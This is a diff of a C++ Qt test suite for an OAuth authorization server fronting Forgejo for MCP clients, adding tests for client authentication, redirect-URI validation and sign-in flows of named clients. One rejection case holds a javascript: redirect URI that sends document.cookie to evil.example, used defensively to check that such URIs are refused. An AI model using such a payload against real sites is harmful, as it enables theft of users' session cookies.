@@ -7,6 +7,7 @@
 #include <QLoggingCategory>
 #include <QNetworkAccessManager>
 #include <QProcessEnvironment>
+#include <QRandomGenerator>
 #include <QSet>
 #include <QSignalSpy>
 #include <QTemporaryDir>
@@ -100,6 +101,46 @@ QList<std::pair<QString, QString>> applyOverrides(QList<std::pair<QString, QStri
     return fields;
 }
 
+// How a client authenticates at the token and revocation endpoints: "id"
+// (client_id only), "post" / "post-wrong" (client_secret in the body),
+// "basic" / "basic-wrong" / "basic-empty" / "basic-malformed" (HTTP Basic),
+// "basic+post" (both), "basic+other-id" (Basic, another client_id in the body).
+void addCredentials(const QString &how, const QString &clientId, const QString &secret,
+                    QList<std::pair<QString, QString>> *fields, fmbtest::Headers *headers)
+{
+    const QString wrong(43, QLatin1Char('x'));
+    auto basic = [headers, &clientId](const QString &password) {
+        const QByteArray pair = QUrl::toPercentEncoding(clientId) + ':' + QUrl::toPercentEncoding(password);
+        headers->append({"Authorization", "Basic " + pair.toBase64()});
+    };
+    if (how == QLatin1String("id") || how.startsWith(QLatin1String("post")))
+        fields->append({QStringLiteral("client_id"), clientId});
+    if (how == QLatin1String("post") || how == QLatin1String("basic+post"))
+        fields->append({QStringLiteral("client_secret"), secret.isEmpty() ? wrong : secret});
+    if (how == QLatin1String("post-wrong"))
+        fields->append({QStringLiteral("client_secret"), wrong});
+    if (how == QLatin1String("basic") || how.startsWith(QLatin1String("basic+")))
+        basic(secret.isEmpty() ? wrong : secret);
+    if (how == QLatin1String("basic-wrong"))
+        basic(wrong);
+    if (how == QLatin1String("basic-empty"))
+        basic(QString());
+    if (how == QLatin1String("basic-malformed"))
+        headers->append({QByteArray("Authorization"), QByteArray("Basic !!not-base64!!")});
+    if (how == QLatin1String("basic+other-id"))
+        fields->append({QStringLiteral("client_id"), QStringLiteral("someone-else")});
+}
+
+// The way a client registered for `method` authenticates.
+QString rightCredentials(const QString &method)
+{
+    if (method == QLatin1String("client_secret_post"))
+        return QStringLiteral("post");
+    if (method == QLatin1String("client_secret_basic"))
+        return QStringLiteral("basic");
+    return QStringLiteral("id");
+}
+
 } // namespace
 
 class tst_AuthorizationServer : public QObject {
@@ -143,6 +184,10 @@ private Q_SLOTS:
     void expiredAccessToken();
     void tokenInQueryString();
     void revocation();
+    void clientAuthentication_data();
+    void clientAuthentication();
+    void realClientSignsIn_data();
+    void realClientSignsIn();
     void metadataDocumentClient();
     void metadataDocumentRejects_data();
     void metadataDocumentRejects();
@@ -162,11 +207,15 @@ private:
     QUrl authorizeUrl(const QList<std::pair<QString, QString>> &fields) const;
     // /authorize, approve the consent page when one comes, then follow the
     // redirects through the fake Forgejo back to the client's redirect URI.
-    HttpResult authorizeAndApprove(UserAgent &agent, const QUrl &url);
+    HttpResult authorizeAndApprove(UserAgent &agent, const QUrl &url,
+                                   const QString &redirect = ClientRedirect);
     // The code of a complete sign-in; empty on failure (the caller checks).
     QString codeFor(UserAgent &agent, const QString &clientId, const QString &verifier);
     HttpResult tokenRequest(const QList<std::pair<QString, QString>> &fields,
-                            const QByteArray &contentType = "application/x-www-form-urlencoded");
+                            const QByteArray &contentType = "application/x-www-form-urlencoded",
+                            const fmbtest::Headers &extra = {});
+    // A registration; its answer, secrets remembered.
+    HttpResult registerJson(const QByteArray &body);
     QList<std::pair<QString, QString>> codeExchangeFields(const QString &clientId, const QString &code,
                                                           const QString &verifier) const;
     Tokens tokensFor(UserAgent &agent, const QString &clientId);
@@ -329,7 +378,8 @@ QUrl tst_AuthorizationServer::authorizeUrl(const QList<std::pair<QString, QStrin
     return url;
 }
 
-HttpResult tst_AuthorizationServer::authorizeAndApprove(UserAgent &agent, const QUrl &url)
+HttpResult tst_AuthorizationServer::authorizeAndApprove(UserAgent &agent, const QUrl &url,
+                                                        const QString &redirect)
 {
     HttpResult answer = agent.get(url);
     for (int round = 0; round < 2 && answer.status == 200; ++round) {
@@ -338,9 +388,9 @@ HttpResult tst_AuthorizationServer::authorizeAndApprove(UserAgent &agent, const 
             return answer;
         form.fields.append({QStringLiteral("decision"), QStringLiteral("approve")});
         answer = agent.postForm(QUrl(form.action), fmbtest::encodeForm(form.fields));
-        answer = agent.follow(answer, ClientRedirect);
+        answer = agent.follow(answer, redirect);
     }
-    return agent.follow(answer, ClientRedirect);
+    return agent.follow(answer, redirect);
 }
 
 QString tst_AuthorizationServer::codeFor(UserAgent &agent, const QString &clientId, const QString &verifier)
@@ -370,12 +420,22 @@ QList<std::pair<QString, QString>> tst_AuthorizationServer::codeExchangeFields(c
 }
 
 HttpResult tst_AuthorizationServer::tokenRequest(const QList<std::pair<QString, QString>> &fields,
-                                                 const QByteArray &contentType)
+                                                 const QByteArray &contentType, const fmbtest::Headers &extra)
 {
+    fmbtest::Headers headers{{"Content-Type", contentType}};
+    headers.append(extra);
     HttpResult answer = fmbtest::http(m_network, "POST", broker(QStringLiteral("/oauth/token")),
-                                      fmbtest::encodeForm(fields), {{"Content-Type", contentType}});
+                                      fmbtest::encodeForm(fields), headers);
     remember(answer.json().value(QStringLiteral("access_token")).toString());
     remember(answer.json().value(QStringLiteral("refresh_token")).toString());
+    return answer;
+}
+
+HttpResult tst_AuthorizationServer::registerJson(const QByteArray &body)
+{
+    HttpResult answer = fmbtest::http(m_network, "POST", broker(QStringLiteral("/oauth/register")), body,
+                                      {{"Content-Type", "application/json"}});
+    remember(answer.json().value(QStringLiteral("client_secret")).toString());
     return answer;
 }
 
@@ -450,8 +510,11 @@ void tst_AuthorizationServer::discovery()
              m_publicUrl + QStringLiteral("/oauth/revoke"));
     QCOMPARE(metadata.value(QStringLiteral("code_challenge_methods_supported")).toArray(),
              QJsonArray{QStringLiteral("S256")});
-    QCOMPARE(metadata.value(QStringLiteral("token_endpoint_auth_methods_supported")).toArray(),
-             QJsonArray{QStringLiteral("none")});
+    // "none" first: Claude takes the metadata document path only when it is offered.
+    const QJsonArray methods{QStringLiteral("none"), QStringLiteral("client_secret_post"),
+                             QStringLiteral("client_secret_basic")};
+    QCOMPARE(metadata.value(QStringLiteral("token_endpoint_auth_methods_supported")).toArray(), methods);
+    QCOMPARE(metadata.value(QStringLiteral("revocation_endpoint_auth_methods_supported")).toArray(), methods);
     QCOMPARE(metadata.value(QStringLiteral("response_types_supported")).toArray(),
              QJsonArray{QStringLiteral("code")});
     QCOMPARE(metadata.value(QStringLiteral("client_id_metadata_document_supported")).toBool(), true);
@@ -545,8 +608,16 @@ void tst_AuthorizationServer::registrationRejects_data()
         << json << QByteArray(R"({"redirect_uris":["http://app.example/cb"]})") << 400 << badUri;
     QTest::newRow("redirect with a fragment")
         << json << QByteArray(R"({"redirect_uris":["https://app.example/cb#x"]})") << 400 << badUri;
-    QTest::newRow("custom scheme redirect")
-        << json << QByteArray(R"({"redirect_uris":["myapp://callback"]})") << 400 << badUri;
+    QTest::newRow("javascript redirect")
+        << json
+        << QByteArray(R"({"redirect_uris":["javascript:location='//evil.example/'+document.cookie"]})") << 400
+        << badUri;
+    QTest::newRow("data redirect") << json << QByteArray(R"({"redirect_uris":["data:text/html,<b>x</b>"]})")
+                                   << 400 << badUri;
+    QTest::newRow("file redirect") << json << QByteArray(R"({"redirect_uris":["file:///tmp/cb"]})") << 400
+                                   << badUri;
+    QTest::newRow("redirect with user info")
+        << json << QByteArray(R"({"redirect_uris":["https://me@app.example/cb"]})") << 400 << badUri;
     QTest::newRow("relative redirect")
         << json << QByteArray(R"({"redirect_uris":["/callback"]})") << 400 << badUri;
     QByteArray many = R"({"redirect_uris":[)";
@@ -554,10 +625,10 @@ void tst_AuthorizationServer::registrationRejects_data()
         many += (i ? "," : "") + QByteArray(R"("https://app.example/cb)") + QByteArray::number(i) + '"';
     many += "]}";
     QTest::newRow("eleven redirect URIs (limit 10)") << json << many << 400 << badUri;
-    QTest::newRow("client_secret_basic authentication")
+    QTest::newRow("client_secret_jwt authentication")
         << json
         << QByteArray(
-               R"({"redirect_uris":["https://a.example/cb"],"token_endpoint_auth_method":"client_secret_basic"})")
+               R"({"redirect_uris":["https://a.example/cb"],"token_endpoint_auth_method":"client_secret_jwt"})")
         << 400 << badMeta;
     QTest::newRow("implicit grant")
         << json << QByteArray(R"({"redirect_uris":["https://a.example/cb"],"grant_types":["implicit"]})")
@@ -942,8 +1013,10 @@ void tst_AuthorizationServer::authorizeRejects_data()
         << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45999/other")} << 400 << QString();
     QTest::newRow("redirect URI with a trailing slash")
         << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45999/callback/")} << 400 << QString();
-    QTest::newRow("redirect URI on another port")
-        << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45998/callback")} << 400 << QString();
+    QTest::newRow("redirect URI on localhost instead of 127.0.0.1")
+        << QStringList{QStringLiteral("redirect_uri=http://localhost:45999/callback")} << 400 << QString();
+    QTest::newRow("redirect URI on another loopback port, another path")
+        << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45998/other")} << 400 << QString();
     QTest::newRow("redirect URI missing") << QStringList{QStringLiteral("-redirect_uri")} << 400 << QString();
     QTest::newRow("PKCE missing") << QStringList{QStringLiteral("-code_challenge"),
                                                  QStringLiteral("-code_challenge_method")}
@@ -963,8 +1036,12 @@ void tst_AuthorizationServer::authorizeRejects_data()
                                    << QStringLiteral("invalid_target");
     QTest::newRow("response_type token") << QStringList{QStringLiteral("response_type=token")} << 0
                                          << QStringLiteral("unsupported_response_type");
-    QTest::newRow("unknown scope") << QStringList{QStringLiteral("scope=admin")} << 0
-                                   << QStringLiteral("invalid_scope");
+    // RFC 8252 §7.3: a loopback redirect's port is chosen at request time.
+    QTest::newRow("accepted: redirect URI on another loopback port")
+        << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45998/callback")} << 200 << QString();
+    // RFC 6749 §3.3: unknown scopes are ignored (Claude asks for "claudeai").
+    QTest::newRow("accepted: unknown scope")
+        << QStringList{QStringLiteral("scope=claudeai")} << 200 << QString();
     QTest::newRow("accepted: resource with upper-case scheme and a trailing slash")
         << QStringList{QStringLiteral("resource=HTTP://127.0.0.1:") +
                        QString::number(QUrl(m_publicUrl).port()) + QStringLiteral("/mcp/")}
@@ -1353,6 +1430,306 @@ void tst_AuthorizationServer::revocation()
     QCOMPARE(mcp(rotated.json().value(QStringLiteral("access_token")).toString(), Initialize).status, 401);
 }
 
+// --- client authentication (issue 11, item 5d) ----------------------------------------------
+
+void tst_AuthorizationServer::clientAuthentication_data()
+{
+    QTest::addColumn<QString>("method");    // registered token_endpoint_auth_method
+    QTest::addColumn<QString>("presented"); // see addCredentials()
+    QTest::addColumn<int>("status");
+    QTest::addColumn<QString>("error");
+    QTest::addColumn<bool>("basicChallenge"); // WWW-Authenticate: Basic on the 401
+
+    const QString none = QStringLiteral("none");
+    const QString post = QStringLiteral("client_secret_post");
+    const QString basic = QStringLiteral("client_secret_basic");
+    const QString invalidClient = QStringLiteral("invalid_client");
+    QTest::newRow("public: client_id only") << none << QStringLiteral("id") << 200 << QString() << false;
+    QTest::newRow("public: a client_secret in the body")
+        << none << QStringLiteral("post-wrong") << 401 << invalidClient << false;
+    QTest::newRow("public: HTTP Basic")
+        << none << QStringLiteral("basic-wrong") << 401 << invalidClient << true;
+    QTest::newRow("public: HTTP Basic with an empty password")
+        << none << QStringLiteral("basic-empty") << 401 << invalidClient << true;
+    QTest::newRow("client_secret_post: right secret")
+        << post << QStringLiteral("post") << 200 << QString() << false;
+    QTest::newRow("client_secret_post: wrong secret")
+        << post << QStringLiteral("post-wrong") << 401 << invalidClient << false;
+    QTest::newRow("client_secret_post: no secret")
+        << post << QStringLiteral("id") << 401 << invalidClient << false;
+    QTest::newRow("client_secret_post: the right secret in HTTP Basic")
+        << post << QStringLiteral("basic") << 401 << invalidClient << true;
+    QTest::newRow("client_secret_basic: right secret")
+        << basic << QStringLiteral("basic") << 200 << QString() << false;
+    QTest::newRow("client_secret_basic: wrong secret")
+        << basic << QStringLiteral("basic-wrong") << 401 << invalidClient << true;
+    QTest::newRow("client_secret_basic: the right secret in the body")
+        << basic << QStringLiteral("post") << 401 << invalidClient << false;
+    QTest::newRow("client_secret_basic: no secret")
+        << basic << QStringLiteral("id") << 401 << invalidClient << false;
+    QTest::newRow("client_secret_basic: malformed header")
+        << basic << QStringLiteral("basic-malformed") << 401 << invalidClient << true;
+    QTest::newRow("client_secret_basic: Basic and client_secret both")
+        << basic << QStringLiteral("basic+post") << 400 << QStringLiteral("invalid_request") << false;
+    QTest::newRow("client_secret_basic: another client_id in the body")
+        << basic << QStringLiteral("basic+other-id") << 400 << QStringLiteral("invalid_request") << false;
+}
+
+void tst_AuthorizationServer::clientAuthentication()
+{
+    QFETCH(QString, method);
+    QFETCH(QString, presented);
+    QFETCH(int, status);
+    QFETCH(QString, error);
+    QFETCH(bool, basicChallenge);
+    const HttpResult registered = registerJson(
+        QJsonDocument(QJsonObject{{QStringLiteral("client_name"), QString(QStringLiteral("Auth ") + method)},
+                                  {QStringLiteral("redirect_uris"), QJsonArray{ClientRedirect}},
+                                  {QStringLiteral("token_endpoint_auth_method"), method}})
+            .toJson(QJsonDocument::Compact));
+    QVERIFY2(registered.status == 201, registered.describe().constData());
+    const QString clientId = registered.json().value(QStringLiteral("client_id")).toString();
+    const QString secret = registered.json().value(QStringLiteral("client_secret")).toString();
+    QCOMPARE(registered.json().value(QStringLiteral("token_endpoint_auth_method")).toString(), method);
+    QCOMPARE(secret.isEmpty(), method == QLatin1String("none"));
+    // RFC 7591 §3.2.1: 0 = the secret never expires.
+    QCOMPARE(registered.json().value(QStringLiteral("client_secret_expires_at")).toInteger(-1),
+             secret.isEmpty() ? -1 : 0);
+    Result<fmb::ClientRecord> stored = m_store->findClient(clientId);
+    QVERIFY(stored.ok());
+    QCOMPARE(stored.value().tokenEndpointAuthMethod, method);
+    QCOMPARE(stored.value().secretHash.isNull(), secret.isEmpty());
+    if (!secret.isEmpty())
+        QCOMPARE(stored.value().secretHash, fmb::TokenHash::of(secret.toUtf8()));
+
+    const QString verifier = QString::fromLatin1(fmb::Pkce::generateVerifier());
+    const QString code = codeFor(*m_browser, clientId, verifier);
+    QVERIFY(!code.isEmpty());
+    auto exchange = [&](const QString &how) {
+        auto fields = codeExchangeFields(clientId, code, verifier);
+        fields.removeIf([](const auto &field) { return field.first == QLatin1String("client_id"); });
+        fmbtest::Headers headers;
+        addCredentials(how, clientId, secret, &fields, &headers);
+        return tokenRequest(fields, "application/x-www-form-urlencoded", headers);
+    };
+    const HttpResult answer = exchange(presented);
+    QVERIFY2(answer.status == status, answer.describe().constData());
+    QString refreshToken = answer.json().value(QStringLiteral("refresh_token")).toString();
+    if (status != 200) {
+        QCOMPARE(answer.json().value(QStringLiteral("error")).toString(), error);
+        QVERIFY(!answer.json().contains(QStringLiteral("access_token")));
+        QCOMPARE(answer.header("WWW-Authenticate").startsWith("Basic realm="), basicChallenge);
+        // Authentication comes first: the refused attempt did not spend the code.
+        const HttpResult right = exchange(rightCredentials(method));
+        QVERIFY2(right.status == 200, right.describe().constData());
+        refreshToken = right.json().value(QStringLiteral("refresh_token")).toString();
+    }
+
+    // The same rules at refresh and revocation.
+    auto post = [&](const QString &path, QList<std::pair<QString, QString>> fields, const QString &how) {
+        fmbtest::Headers headers{{"Content-Type", "application/x-www-form-urlencoded"}};
+        addCredentials(how, clientId, secret, &fields, &headers);
+        HttpResult result =
+            fmbtest::http(m_network, "POST", broker(path), fmbtest::encodeForm(fields), headers);
+        remember(result.json().value(QStringLiteral("access_token")).toString());
+        remember(result.json().value(QStringLiteral("refresh_token")).toString());
+        return result;
+    };
+    const QList<std::pair<QString, QString>> refreshFields{
+        {QStringLiteral("grant_type"), QStringLiteral("refresh_token")},
+        {QStringLiteral("refresh_token"), refreshToken}};
+    HttpResult refreshed = post(QStringLiteral("/oauth/token"), refreshFields, presented);
+    QVERIFY2(refreshed.status == status, refreshed.describe().constData());
+    if (status != 200)
+        refreshed = post(QStringLiteral("/oauth/token"), refreshFields, rightCredentials(method));
+    QVERIFY2(refreshed.status == 200, refreshed.describe().constData());
+    const QString access = refreshed.json().value(QStringLiteral("access_token")).toString();
+    const QList<std::pair<QString, QString>> revokeFields{{QStringLiteral("token"), access}};
+    QCOMPARE(post(QStringLiteral("/oauth/revoke"), revokeFields, presented).status, status);
+    if (status != 200) {
+        QCOMPARE(mcp(access, Initialize).status, 200);
+        QCOMPARE(post(QStringLiteral("/oauth/revoke"), revokeFields, rightCredentials(method)).status, 200);
+    }
+    QCOMPARE(mcp(access, Initialize).status, 401);
+}
+
+// --- real MCP clients (issue 11, item 1) ----------------------------------------------------
+
+void tst_AuthorizationServer::realClientSignsIn_data()
+{
+    QTest::addColumn<QByteArray>("registration"); // RFC 7591 body; empty: a metadata document
+    QTest::addColumn<QString>("documentPath");    // where the metadata document is served
+    QTest::addColumn<QByteArray>("document");     // "@self" becomes its URL
+    QTest::addColumn<QString>("redirect");        // the redirect_uri the client authorizes with
+    QTest::addColumn<QString>("scope");           // null: the client sends none
+    QTest::addColumn<QString>("target");          // what the consent page shows as the destination
+    QTest::addColumn<QString>("warning");         // a phrase of the page's warning; empty: none
+
+    // What each client sends, from its issue reports and published sources.
+    const QByteArray grants =
+        R"("grant_types":["authorization_code","refresh_token"],"response_types":["code"])";
+    const QByteArray cursor =
+        R"({"client_name":"Cursor","redirect_uris":["cursor://anysphere.cursor-mcp/oauth/callback",)"
+        R"("https://www.cursor.com/agents/mcp/oauth/callback","http://localhost:8787/callback"],)" +
+        grants + R"(,"token_endpoint_auth_method":"none"})";
+    const QByteArray vscode =
+        R"({"client_name":"Visual Studio Code","client_uri":"https://code.visualstudio.com",)" + grants +
+        R"(,"redirect_uris":["https://insiders.vscode.dev/redirect","https://vscode.dev/redirect",)"
+        R"("http://127.0.0.1/","http://127.0.0.1:33418/"],"scope":"mcp:tools",)"
+        R"("token_endpoint_auth_method":"none","application_type":"native"})";
+    const QString app = QStringLiteral("opens an app");
+    const QString local = QStringLiteral("your own computer");
+    QTest::newRow("Cursor, cursor:// redirect")
+        << cursor << QString() << QByteArray()
+        << QStringLiteral("cursor://anysphere.cursor-mcp/oauth/callback") << QString()
+        << QStringLiteral("cursor://anysphere.cursor-mcp") << app;
+    QTest::newRow("Cursor, loopback redirect")
+        << cursor << QString() << QByteArray() << QStringLiteral("http://localhost:8787/callback")
+        << QString() << QStringLiteral("http://localhost:8787") << local;
+    QTest::newRow("VS Code, port 33418")
+        << vscode << QString() << QByteArray() << QStringLiteral("http://127.0.0.1:33418/") << Scope
+        << QStringLiteral("http://127.0.0.1:33418") << local;
+    const QString busy = QString::number(QRandomGenerator::global()->bounded(40000, 60000));
+    QTest::newRow("VS Code, 33418 busy: a random port")
+        << vscode << QString() << QByteArray() << QStringLiteral("http://127.0.0.1:%1/").arg(busy) << Scope
+        << QStringLiteral("http://127.0.0.1:%1").arg(busy) << local;
+    QTest::newRow("VS Code, vscode.dev")
+        << vscode << QString() << QByteArray() << QStringLiteral("https://vscode.dev/redirect") << Scope
+        << QStringLiteral("https://vscode.dev") << QString();
+    QTest::newRow("Claude, confidential (client_secret_post), unadvertised scope")
+        << QByteArray(
+               R"({"client_name":"Claude","redirect_uris":["https://claude.ai/api/mcp/auth_callback"],)" +
+               grants + R"(,"token_endpoint_auth_method":"client_secret_post","scope":"claudeai"})")
+        << QString() << QByteArray() << QStringLiteral("https://claude.ai/api/mcp/auth_callback")
+        << QStringLiteral("claudeai") << QStringLiteral("https://claude.ai") << QString();
+    const QByteArray claudeCodeDocument =
+        R"({"client_id":"@self","client_name":"Claude Code","client_uri":"https://claude.ai",)"
+        R"("redirect_uris":["http://localhost/callback","http://127.0.0.1/callback"],)" +
+        grants + R"(,"token_endpoint_auth_method":"none"})";
+    const QString ephemeral = QString::number(QRandomGenerator::global()->bounded(40000, 60000));
+    QTest::newRow("Claude Code, metadata document, localhost ephemeral port")
+        << QByteArray() << QStringLiteral("/oauth/claude-code-client-metadata") << claudeCodeDocument
+        << QStringLiteral("http://localhost:%1/callback").arg(ephemeral) << QString()
+        << QStringLiteral("http://localhost:%1").arg(ephemeral) << local;
+    QTest::newRow("Claude Code, metadata document, 127.0.0.1 ephemeral port")
+        << QByteArray() << QStringLiteral("/oauth/claude-code-client-metadata-2") << claudeCodeDocument
+        << QStringLiteral("http://127.0.0.1:%1/callback").arg(ephemeral) << QString()
+        << QStringLiteral("http://127.0.0.1:%1").arg(ephemeral) << local;
+    QTest::newRow("Claude Code, dynamic registration")
+        << QByteArray(R"x({"client_name":"Claude Code (forgejo)","redirect_uris":["http://localhost:)x" +
+                      ephemeral.toLatin1() + R"(/callback"],)" + grants +
+                      R"(,"token_endpoint_auth_method":"none"})")
+        << QString() << QByteArray() << QStringLiteral("http://localhost:%1/callback").arg(ephemeral)
+        << QString() << QStringLiteral("http://localhost:%1").arg(ephemeral) << local;
+    QTest::newRow("ChatGPT")
+        << QByteArray(
+               R"({"client_name":"ChatGPT","redirect_uris":["https://chatgpt.com/connector_platform_oauth_redirect"],)" +
+               grants + R"(,"token_endpoint_auth_method":"none"})")
+        << QString() << QByteArray()
+        << QStringLiteral("https://chatgpt.com/connector_platform_oauth_redirect") << QString()
+        << QStringLiteral("https://chatgpt.com") << QString();
+    const QByteArray inspector =
+        R"({"client_name":"MCP Inspector","client_uri":"https://github.com/modelcontextprotocol/inspector",)"
+        R"("redirect_uris":["http://localhost:6274/oauth/callback","http://localhost:6274/oauth/callback/debug"],)" +
+        grants + R"(,"token_endpoint_auth_method":"none","scope":"mcp:tools"})";
+    QTest::newRow("MCP Inspector") << inspector << QString() << QByteArray()
+                                   << QStringLiteral("http://localhost:6274/oauth/callback") << Scope
+                                   << QStringLiteral("http://localhost:6274") << local;
+    QTest::newRow("MCP Inspector, debug flow") << inspector << QString() << QByteArray()
+                                               << QStringLiteral("http://localhost:6274/oauth/callback/debug")
+                                               << Scope << QStringLiteral("http://localhost:6274") << local;
+    QTest::newRow("A confidential client with client_secret_basic")
+        << QByteArray(R"({"client_name":"Basic client","redirect_uris":["https://agent.example/oauth/cb"],)" +
+                      grants + R"(,"token_endpoint_auth_method":"client_secret_basic"})")
+        << QString() << QByteArray() << QStringLiteral("https://agent.example/oauth/cb") << QString()
+        << QStringLiteral("https://agent.example") << QString();
+}
+
+// Registration (or a metadata document) -> /authorize -> consent -> Forgejo
+// -> code at the client's actual redirect -> token -> /mcp -> refresh.
+void tst_AuthorizationServer::realClientSignsIn()
+{
+    QFETCH(QByteArray, registration);
+    QFETCH(QString, documentPath);
+    QFETCH(QByteArray, document);
+    QFETCH(QString, redirect);
+    QFETCH(QString, scope);
+    QFETCH(QString, target);
+    QFETCH(QString, warning);
+
+    QString clientId;
+    QString secret;
+    QString method = QStringLiteral("none");
+    if (!registration.isEmpty()) {
+        const HttpResult registered = registerJson(registration);
+        QVERIFY2(registered.status == 201, registered.describe().constData());
+        clientId = registered.json().value(QStringLiteral("client_id")).toString();
+        secret = registered.json().value(QStringLiteral("client_secret")).toString();
+        method = registered.json().value(QStringLiteral("token_endpoint_auth_method")).toString();
+        QCOMPARE(secret.isEmpty(), method == QLatin1String("none"));
+    } else {
+        clientId = m_documents->url(documentPath).toString();
+        document.replace("@self", clientId.toUtf8());
+        m_documents->setAnswer(documentPath.toUtf8(), {200, "application/json", document, {}});
+    }
+
+    const QString verifier = QString::fromLatin1(fmb::Pkce::generateVerifier());
+    QList<std::pair<QString, QString>> fields{
+        {QStringLiteral("response_type"), QStringLiteral("code")},
+        {QStringLiteral("client_id"), clientId},
+        {QStringLiteral("redirect_uri"), redirect},
+        {QStringLiteral("code_challenge"), fmb::Pkce::s256(verifier)},
+        {QStringLiteral("code_challenge_method"), QStringLiteral("S256")},
+        {QStringLiteral("state"), QStringLiteral("client-state")},
+        {QStringLiteral("resource"), resource()}};
+    if (!scope.isNull())
+        fields.append({QStringLiteral("scope"), scope});
+    const HttpResult page = m_browser->get(authorizeUrl(fields));
+    QVERIFY2(page.status == 200, page.describe().constData());
+    QVERIFY2(page.body.contains(QByteArray("<strong>" + target.toUtf8() + "</strong>")),
+             page.body.constData());
+    for (const QString &phrase : {QStringLiteral("opens an app"), QStringLiteral("your own computer")})
+        QCOMPARE(page.body.contains(phrase.toUtf8()), phrase == warning);
+
+    const HttpResult back = authorizeAndApprove(*m_browser, authorizeUrl(fields), redirect);
+    QVERIFY2(back.status == 302 && back.location().toString().startsWith(redirect + QLatin1Char('?')),
+             back.describe().constData());
+    const auto query = fmbtest::queryOf(back.location());
+    QCOMPARE(query.value(QStringLiteral("state")), QStringLiteral("client-state"));
+    QCOMPARE(query.value(QStringLiteral("iss")), m_publicUrl);
+    const QString code = query.value(QStringLiteral("code"));
+    QVERIFY(!code.isEmpty());
+    remember(code);
+
+    QList<std::pair<QString, QString>> exchange{
+        {QStringLiteral("grant_type"), QStringLiteral("authorization_code")},
+        {QStringLiteral("code"), code},
+        {QStringLiteral("redirect_uri"), redirect},
+        {QStringLiteral("code_verifier"), verifier},
+        {QStringLiteral("resource"), resource()}};
+    fmbtest::Headers headers;
+    addCredentials(rightCredentials(method), clientId, secret, &exchange, &headers);
+    const HttpResult tokens = tokenRequest(exchange, "application/x-www-form-urlencoded", headers);
+    QVERIFY2(tokens.status == 200, tokens.describe().constData());
+    // Unknown scopes ("claudeai") are ignored: the client gets what the broker has.
+    QCOMPARE(tokens.json().value(QStringLiteral("scope")).toString(), Scope);
+    const HttpResult initialized =
+        mcp(tokens.json().value(QStringLiteral("access_token")).toString(), Initialize);
+    QVERIFY2(initialized.status == 200, initialized.describe().constData());
+
+    QList<std::pair<QString, QString>> refreshFields{
+        {QStringLiteral("grant_type"), QStringLiteral("refresh_token")},
+        {QStringLiteral("refresh_token"), tokens.json().value(QStringLiteral("refresh_token")).toString()}};
+    if (!scope.isNull())
+        refreshFields.append({QStringLiteral("scope"), scope});
+    fmbtest::Headers refreshHeaders;
+    addCredentials(rightCredentials(method), clientId, secret, &refreshFields, &refreshHeaders);
+    const HttpResult refreshed =
+        tokenRequest(refreshFields, "application/x-www-form-urlencoded", refreshHeaders);
+    QVERIFY2(refreshed.status == 200, refreshed.describe().constData());
+    QCOMPARE(mcp(refreshed.json().value(QStringLiteral("access_token")).toString(), Initialize).status, 200);
+}
+
 // --- client ID metadata documents ----------------------------------------------------------
 
 void tst_AuthorizationServer::metadataDocumentClient()
@@ -1419,7 +1796,7 @@ void tst_AuthorizationServer::metadataDocumentRejects_data()
         << QByteArray(
                R"({"client_id":"@self","token_endpoint_auth_method":"client_secret_post","redirect_uris":[")" +
                redirect + R"("]})")
-        << QStringLiteral("only registers public clients");
+        << QStringLiteral("is not supported (supported: none)");
     QTest::newRow("not JSON") << QStringLiteral("/d/html.json") << 200 << QByteArray("<html></html>")
                               << QStringLiteral("is not a JSON object");
     QTest::newRow("HTTP 404") << QStringLiteral("/d/missing.json") << 404 << QByteArray("{}")
